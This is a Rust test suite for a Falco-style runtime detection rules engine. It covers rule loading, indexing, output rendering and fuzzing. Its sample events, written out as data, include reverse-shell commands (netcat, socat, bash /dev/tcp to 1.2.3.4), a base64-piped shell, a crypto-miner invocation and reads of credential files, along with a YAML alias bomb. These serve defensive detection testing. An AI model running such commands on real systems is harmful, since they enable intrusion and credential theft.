    let text = "- rule: A\n  desc: d\n  condition: evt.type = open\n  output: o\n  priority: loud\n- rule: B\n  desc: d\n  condition: evt.type = open\n- rule: C\n  desc: d\n  condition: evt.type = open\n  output: \"x %proc.nme y\"\n  priority: info\n";
    let e = errors(text);
    assert!(e[0].starts_with("rules.yaml:5:13: rule \"A\": unknown priority `loud`"), "{e:?}");
    assert!(e[1].starts_with("rules.yaml:6:3: rule \"B\": missing required key \"output\""), "{e:?}");
    assert!(e[2].starts_with("rules.yaml:6:3: rule \"B\": missing required key \"priority\""), "{e:?}");
    assert!(
        e[3].starts_with("rules.yaml:12:14: unknown field \"proc.nme\" in output of rule \"C\""),
        "{e:?}"
    );
    assert_eq!(e.len(), 4);
    // YAML syntax error.
    let e = errors("- rule: a\n  desc: [x\n- rule: b\n");
    assert!(e[0].starts_with("rules.yaml:3:"), "{e:?}");
    assert!(e[0].contains("invalid YAML"), "{e:?}");
    // Not a sequence / not a mapping.
    assert!(errors("rule: x\n")[0].starts_with("rules.yaml:1:1: expected a sequence"));
    assert!(errors("- just a string\n")[0].starts_with("rules.yaml:1:3: expected a list, macro or rule item"));
}

#[test]
fn unknown_fields_can_be_skipped() {
    let text = "- macro: m\n  condition: k8s.deployment.name = x\n- rule: uses_macro\n  desc: d\n  condition: m\n  output: o\n  priority: info\n- rule: direct\n  desc: d\n  condition: evt.type = open and fd.nope = 1\n  output: o\n  priority: info\n- rule: ok\n  desc: d\n  condition: evt.type = open\n  output: o\n  priority: info\n- rule: self_skip\n  desc: d\n  condition: proc.nope = 1\n  output: o\n  priority: info\n  skip-if-unknown-filter: true\n";
    let mut b = RulesetBuilder::new().skip_unknown_fields(true);
    b.add_file("f.yaml", text);
    let rs = b.build().unwrap();
    assert_eq!(rs.len(), 1);
    assert_eq!(rs.warnings().len(), 3, "{:?}", rs.warnings());
    assert!(rs.warnings()[0]
        .to_string()
        .contains("rule \"uses_macro\" skipped: it uses field(s) \"k8s.deployment.name\""));
    // Strict: errors (the macro's once, the direct one), but not the self-skipping rule.
    let mut b = RulesetBuilder::new();
    b.add_file("f.yaml", text);
    let e = b.build().unwrap_err();
    assert_eq!(e.errors.len(), 2, "{:?}", e.errors);
    assert!(e.errors[0]
        .to_string()
        .starts_with("f.yaml:2:14: unknown field \"k8s.deployment.name\" in condition of macro \"m\""));
    assert!(e.errors[1].to_string().starts_with("f.yaml:10:34: unknown field \"fd.nope\""));
}

#[test]
fn other_sources_and_extras() {
    let text = r#"
- required_engine_version: 9
- rule: k8s
  desc: d
  condition: ka.verb = create
  output: o
  priority: info
  source: k8s_audit
- rule: k8s
  append: true
  condition: and x
- rule: act
  desc: d
  condition: evt.type = execve
  output: o
  priority: info
  actions:
    - kill: true
    - freeze
"#;
    let rs = build(text);
    assert_eq!(rs.len(), 1);
    assert_eq!(rs.warnings().len(), 1);
    assert!(rs.warnings()[0].message.contains("source \"k8s_audit\" is not supported"));
    let r = rs.get("act").unwrap();
    let a = &r.extra["actions"];
    assert_eq!(a.value, serde_json::json!([{"kill": true}, "freeze"]));
    assert_eq!((a.line, a.col), (18, 5));
}

#[test]
fn evt_type_indexing() {
    let text = "- rule: o\n  desc: d\n  condition: evt.type in (open, openat) and fd.name startswith /etc\n  output: o\n  priority: info\n- rule: any\n  desc: d\n  condition: proc.name = zz\n  output: o\n  priority: info\n- rule: neg\n  desc: d\n  condition: not evt.type = openat and proc.name = zz\n  output: o\n  priority: info\n- rule: both\n  desc: d\n  condition: (evt.type = openat and fd.name = a) or (evt.type = execve and proc.name = zz)\n  output: o\n  priority: info\n";
    let rs = build(text);
    assert_eq!(rs.candidates_for_type("openat"), 4);
    assert_eq!(rs.candidates_for_type("execve"), 3);
    assert_eq!(rs.candidates_for_type("connect"), 2);
    assert_eq!(rs.get("both").unwrap().evt_types, Some(vec!["execve".to_string(), "openat".to_string()]));
    assert_eq!(rs.get("neg").unwrap().evt_types, None);
    // The openat rule is never evaluated for an exec: only the index decides.
    let ev = exec("zz", &["zz"]);
    let names: Vec<&str> = rs.evaluate(&ev, &EvalCtx::default()).map(|r| r.name.as_str()).collect();
    assert_eq!(names, vec!["any", "neg", "both"]);
    let mut out = Vec::new();
    assert_eq!(rs.matches(&open("/etc/x", 0), &EvalCtx::default(), &mut out), 1);
    assert_eq!(rs.first_match(&ev, &EvalCtx::default()).unwrap().name, "any");
}

#[test]
fn rendering() {
    let text = "- rule: r\n  desc: d\n  condition: evt.type = execve\n  output: \"Shell (user=%user.name cmd=%proc.cmdline parent=%proc.aname[1] file=%fd.name port=%fd.sport 100%% id=%container.id.)\"\n  priority: info\n";
    let rs = build(text);
    let t = table();
    let ctx = EvalCtx { procs: Some(&t), ..Default::default() };
    let ev = exec("sh", &["sh", "-c", "id"]);
    let r = rs.get("r").unwrap();
    let (out, fields) = rs.render_output(r, &ev, &ctx);
    assert_eq!(out, "Shell (user=root cmd=sh -c id parent=nginx file=<NA> port=<NA> 100%% id=0123456789ab.)");
    assert_eq!(fields["proc.cmdline"], serde_json::json!("sh -c id"));
    assert_eq!(fields["proc.aname[1]"], serde_json::json!("nginx"));
    assert_eq!(fields["fd.name"], serde_json::Value::Null);
    assert_eq!(fields["container.id"], serde_json::json!("0123456789ab"));
    assert_eq!(fields.len(), 6);
    let c = connect("1.2.3.4", 80);
    let text2 = "- rule: r\n  desc: d\n  condition: evt.type = connect\n  output: \"%fd.sport %fd.sip %evt.failed\"\n  priority: info\n";
    let rs2 = build(text2);
    let (out, fields) = rs2.get("r").unwrap().render_output(&c, &ctx);
    assert_eq!(out, "80 1.2.3.4 false");
    assert_eq!(fields["fd.sport"], serde_json::json!(80));
    assert_eq!(fields["evt.failed"], serde_json::json!(false));
}

#[test]
fn falco_style_rules_load_unchanged() {
    let text = r#"
- required_engine_version: 0.31.0

- list: shell_binaries
  items: [ash, bash, csh, ksh, sh, tcsh, zsh, dash]

- macro: spawned_process
  condition: (evt.type in (execve, execveat) and evt.dir=<)

- macro: container
  condition: (container.id != host)

- macro: open_write
  condition: (evt.type in (open,openat,openat2) and evt.is_open_write=true and fd.typechar='f' and fd.num>=0)

- macro: shell_procs
  condition: proc.name in (shell_binaries)

- macro: user_expected_terminal_shell_in_container_conditions
  condition: (never_true)

- macro: never_true
  condition: (evt.num=0)

- rule: Terminal shell in container
  desc: >
    A shell was used as the entrypoint/exec point into a container with an attached terminal.
  condition: >
    spawned_process and container
    and shell_procs and proc.tty != 0
    and container.image.repository != ""
    and not user_expected_terminal_shell_in_container_conditions
  output: >
    A shell was spawned in a container with an attached terminal (user=%user.name user_loginuid=%user.loginuid %container.info
    shell=%proc.name parent=%proc.pname cmdline=%proc.cmdline terminal=%proc.tty container_id=%container.id image=%container.image.repository)
  priority: NOTICE
  tags: [container, shell, mitre_execution, T1059]

- rule: Write below binary dir
  desc: an attempt to write to any file below a set of binary directories
  condition: >
    open_write and fd.directory in (/bin, /sbin, /usr/bin, /usr/sbin)
    and not proc.name in (shell_binaries)
  output: >
    File below a known binary directory opened for writing (user=%user.name command=%proc.cmdline file=%fd.name
    parent=%proc.pname pcmdline=%proc.pcmdline gparent=%proc.aname[2] evt_type=%evt.type)
  priority: ERROR
  tags: [host, container, filesystem, mitre_persistence]
  exceptions:
    - name: proc_writer
      fields: [proc.pname, fd.name]
      comps: [=, startswith]
"#;
    let rs = build(text);
    assert_eq!(rs.len(), 2);
    let t = table();
    let ctx = EvalCtx { procs: Some(&t), ..Default::default() };
    let ev = exec("bash", &["bash"]);
    let hits: Vec<&str> = rs.evaluate(&ev, &ctx).map(|r| r.name.as_str()).collect();
    assert_eq!(hits, vec!["Terminal shell in container"]);
    let (out, _) = rs.get("Terminal shell in container").unwrap().render_output(&ev, &ctx);
    assert!(
        out.starts_with("A shell was spawned in a container with an attached terminal (user=root"),
        "{out}"
    );
    assert!(
        out.contains("shell=bash parent=nginx cmdline=bash terminal=34816 container_id=0123456789ab"),
        "{out}"
    );
    let mut host = ev.clone();
    host.container = None;
    assert_eq!(rs.evaluate(&host, &ctx).count(), 0);
    let mut w = open("/usr/bin/evil", 1);
    w.process.comm = "python".into();
    assert_eq!(
        rs.evaluate(&w, &ctx).map(|r| r.name.as_str()).collect::<Vec<_>>(),
        vec!["Write below binary dir"]
    );
    w.process.comm = "sh".into();
    assert_eq!(rs.evaluate(&w, &ctx).count(), 0);
}

#[test]
fn priority_and_misc_loader() {
    let rs = build("- rule: r\n  desc: d\n  condition: evt.type = open\n  output: o\n  priority: INFORMATIONAL\n  enabled: true\n");
    assert_eq!(rs.rules()[0].priority, Priority::Informational);
    assert!(build("").is_empty());
    assert!(build("# only a comment\n").is_empty());
    assert_eq!(
        errors("- rule: ghost\n  enabled: false\n"),
        vec!["rules.yaml:1:3: rule \"ghost\": cannot enable or disable an undefined rule".to_string()]
    );
    // An unknown item is an error now (a misspelt `rule:` would vanish).
    assert_eq!(
        errors("- rul: x\n"),
        vec!["rules.yaml:1:3: item: unknown key \"rul\" (did you mean `rule`?)".to_string()]
    );
    assert!(build("- required_plugin_versions: []\n").is_empty());
}

#[test]
fn check_condition_api() {
    assert!(check_condition("proc.name = a and fd.sport > 3").is_ok());
    assert_eq!(check_condition("proc.nam = a").unwrap_err().0, 0);
    assert_eq!(check_condition("proc.name = a and").unwrap_err().0, 17);
}

/// Tiny deterministic PRNG for the fuzz-ish tests.
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

#[test]
fn random_input_never_panics() {
    let mut rng = Rng(0x9e3779b97f4a7c15);
    let alphabet: Vec<char> =
        "abc.-_ ()[]'\"=<>!,:%\n\t|>&*?{}#0123456789proc.name evt.type and or not in contains"
            .chars()
            .collect();
    for _ in 0..3000 {
        let len = (rng.next() % 80) as usize;
        let s: String = (0..len).map(|_| alphabet[(rng.next() % alphabet.len() as u64) as usize]).collect();
        let _ = check_condition(&s);
        let mut b = RulesetBuilder::new();
        b.add_file("f", &s);
        let _ = b.build();
        let mut b = RulesetBuilder::new();
        b.add_file("f", &rule(&s));
        let _ = b.build();
        let mut b = RulesetBuilder::new();
        b.add_file(
            "f",
            &format!(
                "- rule: r\n  desc: d\n  condition: evt.type=open\n  output: \"{s}\"\n  priority: info\n"
            ),
        );
        let _ = b.build();
    }
    for _ in 0..500 {
        let len = (rng.next() % 200) as usize;
        let bytes: Vec<u8> = (0..len).map(|_| rng.next() as u8).collect();
        let s = String::from_utf8_lossy(&bytes);
        let mut b = RulesetBuilder::new();
        b.add_file("f", &s);
        let _ = b.build();
        let _ = check_condition(&s);
    }
    // Hostile shapes.
    for s in ["[".repeat(5000), "- ".repeat(5000), "a: &a [*a]".into(), "- rule: &x\n- *x\n".into()] {
        let mut b = RulesetBuilder::new();
        b.add_file("f", &s);
        let _ = b.build();
    }
    let bomb = "a: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: [*f,*f,*f,*f,*f,*f,*f,*f,*f,*f]\n";
    let mut b = RulesetBuilder::new();
    b.add_file("f", bomb);
    assert!(b.build().is_err());
}

#[test]
fn fields_doc_is_current() {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/fields.md");
    let want = fields_markdown();
    if std::env::var_os("UPDATE_FIELDS_DOC").is_some() {
        std::fs::write(&path, &want).expect("write docs/fields.md");
        return;
    }
    let have = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(
        have == want,
        "docs/fields.md is out of date: run `UPDATE_FIELDS_DOC=1 cargo test -p rules fields_doc_is_current` to regenerate it"
    );
}

#[test]
fn every_field_extracts_without_panicking() {
    let t = table();
    let ctx = EvalCtx { procs: Some(&t), hostname: Some("h"), event_num: 5 };
    let events = vec![
        exec("sh", &["sh"]),
        exec("sh", &[]),
        open("/", 0o200000),
        open("", 0),
        connect("::1", 1),
        base(
            "accept4",
            EventKind::Accept { fd: 3, local: None, remote: Some(SockAddr::Unix { path: "/s".into() }) },
        ),
        base("bind", EventKind::Bind { fd: 3, addr: None }),
        base("listen", EventKind::Listen { fd: 3, backlog: 1, local: Some(SockAddr::Other { number: 16 }) }),
        base("procexit", EventKind::Exit { code: 1, signal: 9, core_dumped: false }),
        base("clone", EventKind::Fork { child_pid: 5, child_tid: 5, thread: false }),
        base("setresuid", EventKind::Setuid { syscall: "setresuid".into(), ids: vec![0, 0, u32::MAX] }),
        base("setgid", EventKind::Setgid { syscall: "setgid".into(), ids: vec![] }),
        base("capset", EventKind::Capset { effective: u64::MAX, permitted: 0, inheritable: 1 }),
        base(
            "finit_module",
            EventKind::ModuleLoad { syscall: "finit_module".into(), path: Some("/m.ko".into()) },
        ),
        base("setns", EventKind::Setns { fd: 3, ns_path: Some("mnt:[1]".into()), nstype: 0 }),
        base(
            "mount",
            EventKind::Mount {
                source: "/".into(),
                target: "/mnt".into(),
                fstype: "ext4".into(),
                flags: 4096,
            },
        ),
        base("umount2", EventKind::Umount { target: "/mnt".into(), flags: 0 }),
        base("socket", EventKind::Socket { domain: 2, sock_type: 2, protocol: 0 }),
        base("bpf", EventKind::Bpf { cmd: 5 }),
        base("symlinkat", EventKind::Symlink { target: "/a".into(), link_path: "b".into() }),
        base("linkat", EventKind::Link { old_path: "a".into(), new_path: "b".into() }),
        base("mkdirat", EventKind::Mkdir { path: "/d".into(), mode: 0o755 }),
        base("unlinkat", EventKind::Unlink { path: "/d".into(), dir: true }),
        base("fchownat", EventKind::Chown { path: "/d".into(), uid: 0, gid: u32::MAX }),
    ];
    for ev in &events {
        for f in FIELDS {
            for arg in [
                fields::Arg::None,
                fields::Arg::Index(0),
                fields::Arg::Index(3),
                fields::Arg::Key("name".into()),
            ] {
                let v = (f.extract)(ev, &ctx, &arg);
                let mut s = String::new();
                v.render(&mut s);
                let _ = v.to_json();
            }
        }
    }
    let rs = build(&rule("fd.l4proto = udp"));
    assert!(rs.get("r").unwrap().matches(&events[17], &ctx));
}

#[test]
fn ruleset_is_send_and_sync() {
    fn check<T: Send + Sync>() {}
    check::<Ruleset>();
    check::<CompiledRule>();
    assert!(holds("not evt.num = 0 and evt.num >= 0", &open("/x", 0)));
}

/// The type index evaluates each rule specialized for the event type, with the
/// shared cheap conjuncts hoisted into guards and string tests merged: on the
/// default rules and events that trip them, it must agree with each rule's
/// general condition.
#[test]
fn indexed_evaluation_agrees_with_general_conditions() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../../rules");
    let Ok(entries) = std::fs::read_dir(dir) else { return };
    let mut files: Vec<_> = entries.filter_map(|e| e.ok()).map(|e| e.path()).collect();
    files.retain(|p| p.extension().is_some_and(|x| x == "yaml"));
    files.sort();
    let mut b = RulesetBuilder::new();
    for f in &files {
        b.add_file(&f.display().to_string(), &std::fs::read_to_string(f).unwrap());
    }
    let rs = b.build().expect("default rules load");
    let matched = index_agrees(&rs, &sample_events());
    // The events do trip rules (the comparison is not vacuous).
    assert!(matched >= 30, "only {matched} matches");
    // The path scan screens most rules of the open types.
    let open = &rs.by_type["openat"];
    assert!(open.paths.is_some());
    assert!(open.cands.iter().filter(|c| c.screened).count() >= 10);
}

/// Falco's own rules (the vendored copies), evaluated through the index and
/// rule by rule, agree on the same events.
#[test]
fn indexed_evaluation_agrees_on_falcos_rules() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/falco-upstream");
    let mut b = RulesetBuilder::new().skip_unknown_fields(true);
    for f in ["falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"] {
        b.add_file(f, &std::fs::read_to_string(format!("{dir}/{f}")).unwrap());
    }
    let mut rs = b.build().expect("Falco's rules load");
    // Falco ships many rules disabled: all of them are compared here.
    for r in &mut rs.rules {
        r.enabled = true;
    }
    let rs = Ruleset::new(std::mem::take(&mut rs.rules), Vec::new(), Vec::new());
    let matched = index_agrees(&rs, &sample_events());
    assert!(matched >= 10, "only {matched} matches");
    assert!(rs.by_type["openat"].paths.is_some());
}

/// Asserts that every event meets the same rules through the type index
/// (guards, path scan) as through each rule's general condition; returns
/// how many rules matched in all.
fn index_agrees(rs: &Ruleset, events: &[Event]) -> usize {
    let t = table();
    let mut matched = 0;
    for (n, ev) in events.iter().enumerate() {
        let ctx = EvalCtx { procs: Some(&t), hostname: Some("h"), event_num: n as u64 + 1 };
        let indexed: Vec<&str> = rs.evaluate(ev, &ctx).map(|r| r.name.as_str()).collect();
        let general: Vec<&str> =
            rs.rules().iter().filter(|r| r.enabled && r.matches(ev, &ctx)).map(|r| r.name.as_str()).collect();
        assert_eq!(indexed, general, "event {n}: {ev:?}");
        matched += indexed.len();
    }
    matched
}

fn sample_events() -> Vec<Event> {
    let (wr, trunc, creat) = (1u32, 0o1000u32, 0o100u32);
    let mut events = Vec::new();
    for (path, flags) in [
        ("/etc/shadow", 0),
        ("/etc/sudoers.d/x", 0),
        ("/root/.ssh/id_rsa", 0),
        ("/srv/tls.key", 0),
        ("/home/u/.aws/credentials", 0),
        ("/proc/1/environ", 0),
        ("/proc/self/environ", 0),
        ("/usr/bin/ls", wr),
        ("/usr/lib/__pycache__/x", wr),
        ("/etc/passwd", wr | trunc),
        ("/etc/cron.d/job", wr | creat),
        ("/root/.ssh/authorized_keys", wr),
        ("/root/.bashrc", wr),
        ("/root/.bash_history", wr | trunc),
        ("/var/log/syslog", wr | trunc),
        ("/sys/fs/cgroup/release_agent", wr),
        ("/proc/sys/kernel/core_pattern", wr),
        ("/var/run/docker.sock", 2),
        ("/lib/modules/x.ko", 0),
        ("/tmp/plain", 0),
        ("/tmp/plain", wr),
        // The strings of the rules in other places than their tests want.
        ("/tmp/etc/shadow", 0),
        ("/etc/shadow.bak", 0),
        ("/etc/shadow/", 0),
        ("/home/u/.ssh", 0),
        ("/srv/.ssh/x/id_rsa.pub", 0),
        ("relative/.aws/credentials", 0),
        ("/usr/bin", wr),
        ("/usr/binx/y", wr),
        ("/", 0),
        ("", 0),
        ("/dev/mem", 2),
        ("/sys/kernel/debug/x", wr),
        ("/tmp/é/.kube/config", 0),
        ("/root/.docker/config.json.d", 0),
        ("/etc/ld.so.preload", wr),
    ] {
        for comm in ["bash", "cat", "runc:[2:INIT]", "modprobe", "rtest"] {
            let mut e = open(path, flags);
            e.process.comm = comm.into();
            events.push(e.clone());
            e.ret = Some(-13);
            events.push(e.clone());
            e.container = None;
            events.push(e);
        }
    }
    for argv in [
        &["sh"][..],
        &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
        &["socat", "exec:sh", "tcp:1.2.3.4:5"],
        &["xmrig", "-o", "stratum+tcp://pool:3333"],
        &["apt-get", "install", "x"],
        &["pip", "install", "x"],
        &["sh", "-c", "echo aGk= | base64 -d | sh"],
        &["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"],
        &["nmap", "-sS", "10.0.0.0/24"],
        &["ip", "addr"],
        &["insmod", "x.ko"],
        &["/tmp/dropper"],
    ] {
        let mut e = exec(argv[0].rsplit('/').next().unwrap(), argv);
        events.push(e.clone());
        if let EventKind::Exec { exe_from_memfd, tty, exe, .. } = &mut e.kind {
            *exe_from_memfd = true;
            *tty = None;
            *exe = format!("/tmp/{}", argv[0]);
        }
        events.push(e.clone());
        e.container = None;
        events.push(e);
    }
    events.push(connect("1.2.3.4", 3333));
    events.push(connect("127.0.0.1", 80));
    events.push(base(
        "connect",
        EventKind::Connect {
            fd: 3,
            local: None,
            remote: Some(SockAddr::Unix { path: "/run/docker.sock".into() }),
        },
    ));
    events.push(base(
        "mount",
        EventKind::Mount {
            source: "/dev/sda1".into(),
            target: "/mnt".into(),
            fstype: "ext4".into(),
            flags: 0,
        },
    ));
    events.push(base("unlinkat", EventKind::Unlink { path: "/root/.bash_history".into(), dir: false }));
    events.push(base("unlink", EventKind::Unlink { path: "/var/log/auth.log".into(), dir: false }));
    events.push(base(
        "renameat",
        EventKind::Rename { old_path: "/root/.zsh_history".into(), new_path: "/tmp/x".into() },
    ));
    events.push(base("fchmodat", EventKind::Chmod { path: "/tmp/x".into(), mode: 0o4755 }));
    events.push(base("setuid", EventKind::Setuid { syscall: "setuid".into(), ids: vec![0] }));
    events
        .push(base("capset", EventKind::Capset { effective: u64::MAX, permitted: u64::MAX, inheritable: 0 }));
    events.push(base("ptrace", EventKind::Ptrace { request: 16, target_pid: 1 }));
    events.push(base("bpf", EventKind::Bpf { cmd: 5 }));
    events.push(base("setns", EventKind::Setns { fd: 3, ns_path: Some("/proc/1/ns/mnt".into()), nstype: 0 }));
    events.push(base("unshare", EventKind::Unshare { flags: 0x10000 }));
    events.push(base(
        "finit_module",
        EventKind::ModuleLoad { syscall: "finit_module".into(), path: Some("/x.ko".into()) },
    ));
    let mut no_type = base(
        "capable",
        EventKind::Capable { cap: 21, cap_name: String::new(), granted: true, syscall_nr: None },
    );
    no_type.syscall = None;
    events.push(no_type);
    events
}

/// The prefilter's input: which event types some enabled rule can match.
#[test]
fn event_types_used_by_the_rules() {
    let types =
        |text: &str| build(text).event_types_used().map(|s| s.into_iter().collect::<Vec<_>>().join(","));
    let two = |a: &str, b: &str| format!("{}{}", rule(a), rule(b).replace("rule: r", "rule: r2"));
    // pinned types, through `in` and `or`
    assert_eq!(types(&rule("evt.type in (open, openat) and fd.name = /x")).as_deref(), Some("open,openat"));
    assert_eq!(
        types(&rule("evt.type = connect or (evt.type = ptrace and proc.name = gdb)")).as_deref(),
        Some("connect,ptrace")
    );
    // a rule that pins nothing needs every type; so does a negated pin
    assert_eq!(types(&rule("proc.name = bash")), None);
    assert_eq!(types(&rule("not evt.type = open")), None);
    assert_eq!(types(&two("evt.type = open", "container.id != host")), None);
    // a type whose specialized condition is false is not needed
    assert_eq!(types(&rule("evt.type in (open, connect) and evt.type = open")).as_deref(), Some("open"));
    // disabled rules need nothing; no rule at all needs nothing
    let disabled = format!("{}  enabled: false\n", rule("proc.name = bash"));
    assert_eq!(types(&disabled).as_deref(), Some(""));
    assert_eq!(types(&two("evt.type = open", "evt.type = bpf")).as_deref(), Some("bpf,open"));
}

fn rules_named(conds: &[&str]) -> Ruleset {
    let text: String = conds
        .iter()
        .enumerate()
        .map(|(i, c)| {
            format!(
                "- rule: r{i}\n  desc: d\n  condition: {}\n  output: o\n  priority: WARNING\n",
                yaml_quote(c)
            )
        })
        .collect();
    build(&text)
}

/// Each form of path test is screened by the scan, the others are not, and
/// screening changes no result.
#[test]
fn path_scan_screens_positive_path_tests_only() {
    let screened = [
        "fd.name = /etc/shadow",
        "fd.name in (/a/b, /c/d)",
        "fd.name startswith /etc/",
        "fd.name endswith .pem",
        "fd.name contains /.ssh/",
        "fd.name pmatch (/proc/sys, /sys/kernel)",
        "fd.filename in (id_rsa, credentials)",
        "fd.directory = /usr/bin",
        "(fd.name startswith /x or fd.filename = y)",
        "proc.name = bash and fd.name startswith /srv",
    ];
    let unscreened = [
        "not fd.name startswith /etc",
        "fd.name glob /a*",
        "fd.name pmatch (/)",
        "fd.name != /etc/shadow",
        "fd.name icontains SHADOW",
        "(fd.name = /a or proc.name = cat)",
        "fd.name contains \"\"",
    ];
    let conds: Vec<String> =
        screened.iter().chain(&unscreened).map(|c| format!("evt.type = openat and {c}")).collect();
    let rs = rules_named(&conds.iter().map(String::as_str).collect::<Vec<_>>());
    let ix = &rs.by_type["openat"];
    assert!(ix.paths.is_some());
    let flags: Vec<bool> = ix.cands.iter().map(|c| c.screened).collect();
    let mut expected = vec![true; screened.len()];
    expected.extend(vec![false; unscreened.len()]);
    assert_eq!(flags, expected);
    let mut events = Vec::new();
    for path in [
        "/etc/shadow",
        "/etc/shadowx",
        "/a/b",
        "/a/bc",
        "/c/d",
        "/etc/",
        "/etc",
        "/x.pem",
        "/x.pemm",
        "/r/.ssh/k",
        "/r/.ssh",
        "/proc/sys",
        "/proc/sys/kernel/x",
        "/proc/system",
        "/sys/kernel",
        "/h/id_rsa",
        "/h/id_rsa/z",
        "/credentials",
        "/usr/bin/ls",
        "/usr/bin",
        "/usr/bin/x/y",
        "/x",
        "/q/y",
        "/y",
        "/srv/a",
        "/a",
        "/A/SHADOW",
        "",
        "/",
    ] {
        for comm in ["bash", "cat"] {
            let mut e = open(path, 0);
            e.process.comm = comm.into();
            events.push(e);
        }
    }
    // Not an open: fd.name has no value.
    events.push(base("openat", EventKind::Unshare { flags: 0 }));
    let matched = index_agrees(&rs, &events);
    assert!(matched >= 40, "only {matched} matches");
}

/// A path that meets the patterns at every byte makes the scan give up and
/// let every candidate through (in linear time), with the same results.
#[test]
fn path_scan_gives_up_past_its_budget() {
    let needles: Vec<String> = (1..=40).map(|n| format!("fd.name contains {}", "a".repeat(n))).collect();
    let conds: Vec<String> = needles.iter().map(|c| format!("evt.type = openat and {c}")).collect();
    let rs = rules_named(&conds.iter().map(String::as_str).collect::<Vec<_>>());
    let scan = rs.by_type["openat"].paths.as_ref().expect("screened");
    let t = table();
    let ctx = EvalCtx { procs: Some(&t), ..Default::default() };
    let flood = open(&format!("/{}", "a".repeat(4000)), 0);
    assert_eq!(scan.possible(&flood, &ctx), [u64::MAX; pathscan::MAX_SCREENED / 64]);
    // Below the budget the answer is exact: only the first two rules.
    let short = open("/xaay", 0);
    let p = scan.possible(&short, &ctx);
    assert_eq!((0..40).filter(|&i| pathscan::allows(&p, i)).collect::<Vec<_>>(), vec![0, 1]);
    assert_eq!(index_agrees(&rs, &[flood, short]), 42);
}
